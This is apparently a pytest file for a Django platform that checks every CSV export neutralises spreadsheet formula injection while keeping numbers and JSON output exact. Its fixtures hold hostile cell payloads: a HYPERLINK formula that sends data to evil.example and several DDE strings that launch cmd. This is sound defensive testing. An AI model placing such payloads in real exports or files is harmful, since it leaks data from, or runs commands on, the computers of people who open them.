"""Spreadsheet formulas never leave the platform in a CSV (issue 14: a subdivision
`=HYPERLINK(...)` came out raw in members.csv, a practice title in practices.csv, a
juror's comment in reviews.csv). Every CSV URL is walked with hostile data in every text
it carries; a new CSV URL fails `test_every_csv_url_is_walked` until it is added here."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone

from gnlc.accounts.tests.factories import UserFactory
from gnlc.admissions.tests.factories import ApplicationFactory, make_juror
from gnlc.cities.tests.factories import MemberFactory
from gnlc.core import csvfile
from gnlc.events.tests.factories import make_event
from gnlc.library.tests.factories import PracticeFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"info")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
HOSTILE = [HYPERLINK, DDE, PLUS, MINUS, TAB, CR]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (PLUS, "'" + PLUS),
        (MINUS, "'" + MINUS),
        (TAB, "'" + TAB),
        (CR, "'" + CR),
        ("+254 20 123456", "'+254 20 123456"),
        ("Nakuru", "Nakuru"),
        ("a=b", "a=b"),
        # Numbers stay numbers, as values or as plain decimal text.
        (-3, -3),
        (-1.28, -1.28),
        ("-3", "-3"),
        ("+2.5", "+2.5"),
        ("-1e-3", "-1e-3"),
        ("", ""),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert csvfile.safe_cell(value) == written


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


@pytest.fixture
def hostile(member, secretariat):
    """Hostile text in every field a CSV carries: a member's name, subdivision, local
    name, website and source; a published practice's title, summary and cities; an
    application's city and a juror's comment."""
    evil = MemberFactory(
        name=MINUS,
        subdivision=HYPERLINK,
        local_name=DDE,
        local_name_lang="en",
        website=PLUS,
        source_url=TAB,
        latitude=-33.92,
        longitude=-3.7,
    )
    PracticeFactory(title=HYPERLINK, summary=DDE, members=[evil, member])
    application = ApplicationFactory(city_name=HYPERLINK, state="nominated")
    application.reviews.create(
        juror=make_juror(email="juror@example.org"),
        comment=DDE,
        recommendation="admit",
        scores={str(c.pk): 4 for c in application.call.criteria.all()},
        submitted_at=timezone.now(),
        version=1,
    )
    event = make_event()
    event.register(UserFactory(full_name=HYPERLINK, email="hostile@example.org"))
    return {"call": application.call, "event": event}


# Every CSV URL: its name -> (kwargs, persona allowed to download it).
CSV_URLS = {
    "cities:download": (lambda o: {"fmt": "csv"}, "anonymous"),
    "cities:open-data-table": (lambda o: {"table": "countries"}, "anonymous"),
    "cities:statistics-csv": (lambda o: {}, "anonymous"),
    "cities:statistics-series-csv": (lambda o: {"series": "cohorts"}, "anonymous"),
    "library:export": (lambda o: {"fmt": "csv"}, "anonymous"),
    "admissions:reviews-csv": (lambda o: {"pk": o["call"].pk}, "secretariat"),
    "events:participants-csv": (lambda o: {"slug": o["event"].slug}, "secretariat"),
}


def csv_url_names(resolver=None, namespace=""):
    """URL names whose pattern can end in .csv."""
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            ns = pattern.namespace or ""
            yield from csv_url_names(pattern, f"{namespace}{ns}:" if ns else namespace)
        elif isinstance(pattern, URLPattern) and pattern.name and "csv" in str(pattern.pattern):
            yield f"{namespace}{pattern.name}"


def test_every_csv_url_is_walked():
    assert set(csv_url_names()) == set(CSV_URLS)


@pytest.mark.parametrize("name", sorted(CSV_URLS))
def test_no_csv_cell_can_run_as_a_formula(client, hostile, secretariat, name):
    kwargs, persona = CSV_URLS[name]
    if persona == "secretariat":
        client.force_login(secretariat)

    response = client.get(reverse(name, kwargs=kwargs(hostile)))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = cells(response.getvalue())
    for row in rows:
        for cell in row:
            assert not cell.startswith(csvfile.TRIGGERS) or re.fullmatch(r"[+-][\d.eE+-]+", cell)


def test_members_csv_neutralises_text_and_keeps_numbers(client, hostile):
    rows = cells(client.get("/members.csv").getvalue())
    header, evil = rows[0], next(row for row in rows if row[0] == "'" + MINUS)

    record = dict(zip(header, evil, strict=True))
    assert record["subdivision"] == "'" + HYPERLINK
    assert record["local_name"] == "'" + DDE
    assert record["website"] == "'" + PLUS
    assert record["source_url"] == "'" + TAB
    assert record["latitude"] == "-33.92"
    assert record["longitude"] == "-3.7"


def test_json_and_geojson_stay_exact(client, hostile):
    members = json.loads(client.get("/members.json").getvalue())["members"]
    features = json.loads(client.get("/members.geojson").getvalue())["features"]
    practices = json.loads(client.get("/library/practices.json").content)["practices"]

    evil = next(m for m in members if m["name"] == MINUS)
    assert (evil["subdivision"], evil["local_name"], evil["latitude"]) == (HYPERLINK, DDE, -33.92)
    assert next(f for f in features if f["properties"]["name"] == MINUS)["geometry"] == {
        "type": "Point",
        "coordinates": [-3.7, -33.92],
    }
    assert practices[0]["title"] == HYPERLINK
    assert MINUS in practices[0]["cities"]


def test_practices_and_reviews_csv_neutralise_what_people_typed(client, hostile, secretariat):
    practices = cells(client.get("/library/practices.csv").content)
    client.force_login(secretariat)
    reviews = cells(
        client.get(reverse("admissions:reviews-csv", args=[hostile["call"].pk])).content
    )

    practice = dict(zip(practices[0], practices[1], strict=True))
    assert practice["title"] == "'" + HYPERLINK
    assert practice["summary"] == "'" + DDE
    review = dict(zip(reviews[0], reviews[1], strict=True))
    assert review["city"] == "'" + HYPERLINK
    assert review["comment"] == "'" + DDE
    assert review["score:Commitment"] == "4"


def test_every_csv_is_written_through_csvfile():
    """A CSV written with the csv module directly would skip the neutralisation."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "csvfile.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]

    assert offenders == []
